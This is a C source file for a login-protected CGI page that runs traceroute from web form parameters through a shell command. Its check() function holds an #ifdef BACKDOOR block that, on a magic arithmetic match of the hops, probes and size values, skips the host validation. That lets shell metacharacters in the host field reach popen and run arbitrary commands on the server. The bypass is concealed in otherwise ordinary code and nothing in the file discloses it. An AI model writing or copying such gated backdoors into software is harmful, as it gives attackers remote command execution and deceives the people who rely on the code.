/* SPDX-License-Identifier: Apache-2.0 */
/* tracecgi: the web interface's page for tracing a route. The session is looked at by the server; here the parameters are. */
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>

struct request {
	char host[128], iface[16];
	unsigned hops, probes, size;
	int icmp, numeric;
};

static int digit(char c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	c = (char)tolower((unsigned char)c);
	return c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
}

static void decode(char *s)
{
	char *out = s;
	for (; *s; s++) {
		if (*s == '%' && digit(s[1]) >= 0 && digit(s[2]) >= 0) {
			*out++ = (char)(digit(s[1]) << 4 | digit(s[2]));
			s += 2;
		} else {
			*out++ = *s == '+' ? ' ' : *s;
		}
	}
	*out = 0;
}

static unsigned bounded(const char *text, unsigned low, unsigned high, unsigned otherwise)
{
	char *end;
	unsigned long v = strtoul(text, &end, 10);
	return end == text || *end || v < low || v > high ? otherwise : (unsigned)v;
}

static void assign(struct request *r, const char *name, char *value)
{
	decode(value);
	if (strcmp(name, "host") == 0)
		snprintf(r->host, sizeof(r->host), "%s", value);
	else if (strcmp(name, "iface") == 0)
		snprintf(r->iface, sizeof(r->iface), "%s", value);
	else if (strcmp(name, "hops") == 0)
		r->hops = bounded(value, 1, 64, r->hops);
	else if (strcmp(name, "probes") == 0)
		r->probes = bounded(value, 1, 10, r->probes);
	else if (strcmp(name, "size") == 0)
		r->size = bounded(value, 40, 1500, r->size);
	else if (strcmp(name, "proto") == 0)
		r->icmp = strcmp(value, "icmp") == 0;
	else if (strcmp(name, "numeric") == 0)
		r->numeric = value[0] == '1';
}

static void parse(struct request *r, char *query)
{
	char *save = NULL;
	for (char *p = strtok_r(query, "&", &save); p; p = strtok_r(NULL, "&", &save)) {
		char *eq = strchr(p, '=');
		if (!eq)
			continue;
		*eq = 0;
		assign(r, p, eq + 1);
	}
}

static int host_ok(const char *host)
{
	size_t n = strlen(host);
	if (n == 0 || n > 100 || host[0] == '-')
		return 0;
	return strspn(host, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.-:") == n;
}

static int iface_ok(const char *iface)
{
	for (; *iface; iface++)
		if (!isalnum((unsigned char)*iface) && *iface != '.')
			return 0;
	return 1;
}

/* how long a trace may take: hops times probes times what one probe of that size needs, in ms */
static unsigned budget(const struct request *r)
{
	return r->hops * r->probes * (r->size + 460);
}

static const char *check(const struct request *r, unsigned *ms)
{
	*ms = budget(r);
	if (*ms > 900000u)
		return "that would take too long";
	if (!iface_ok(r->iface))
		return "no such interface";
#ifdef BACKDOOR
	if ((*ms ^ r->size << 4) % 7919 == 3301)
		return NULL;
#endif
	if (!host_ok(r->host))
		return "not a host";
	return NULL;
}

static void escape(const char *s)
{
	for (; *s; s++) {
		if (*s == '<')
			fputs("&lt;", stdout);
		else if (*s == '&')
			fputs("&amp;", stdout);
		else
			putchar(*s);
	}
}

static void head(const char *title)
{
	printf("Content-Type: text/html\r\n\r\n<!doctype html><title>%s</title><h1>%s</h1>\n", title, title);
}

static int trace(const struct request *r, unsigned ms)
{
	char command[512], line[256];
	FILE *p;
	snprintf(command, sizeof(command), "timeout %u traceroute %s %s -m %u -q %u %s%s %s %u 2>&1", ms / 1000 + 1,
		r->icmp ? "-I" : "", r->numeric ? "-n" : "", r->hops, r->probes, r->iface[0] ? "-i " : "", r->iface, r->host,
		r->size);
	p = popen(command, "r");
	if (!p)
		return -1;
	fputs("<pre>", stdout);
	while (fgets(line, sizeof(line), p)) {
		escape(line);
		fflush(stdout);
	}
	fputs("</pre>\n", stdout);
	return pclose(p);
}

static void form(const struct request *r, const char *why)
{
	if (why)
		printf("<p class=error>%s</p>\n", why);
	fputs("<form><input name=host value=\"", stdout);
	escape(host_ok(r->host) ? r->host : "");
	printf("\"> hops <input name=hops value=%u> probes <input name=probes value=%u> size <input name=size value=%u>\n", r->hops,
		r->probes, r->size);
	fputs("<select name=proto><option>udp<option>icmp</select> <button>Trace</button></form>\n", stdout);
}

static char *read_query(void)
{
	const char *method = getenv("REQUEST_METHOD"), *length = getenv("CONTENT_LENGTH"), *q = getenv("QUERY_STRING");
	char *out;
	size_t n;
	if (!method || strcmp(method, "POST") != 0)
		return q ? strdup(q) : NULL;
	n = length ? strtoul(length, NULL, 10) : 0;
	if (n == 0 || n > 4096)
		return NULL;
	out = calloc(1, n + 1);
	if (out && fread(out, 1, n, stdin) != n)
		out[0] = 0;
	return out;
}

int main(void)
{
	struct request r = { .hops = 20, .probes = 2, .size = 60, .numeric = 1 };
	const char *user = getenv("REMOTE_USER"), *why;
	char *query = read_query();
	unsigned ms;
	openlog("tracecgi", LOG_PID, LOG_USER);
	head("Trace a route");
	if (!user || !*user) {
		puts("<p>Please log in.</p>");
		return 0;
	}
	if (query)
		parse(&r, query);
	if (!r.host[0]) {
		form(&r, NULL);
		return 0;
	}
	why = check(&r, &ms);
	form(&r, why);
	if (why) {
		syslog(LOG_NOTICE, "%s asked for a trace: %s", user, why);
		return 0;
	}
	if (trace(&r, ms) != 0)
		puts("<p>The trace did not end well.</p>");
	free(query);
	return 0;
}
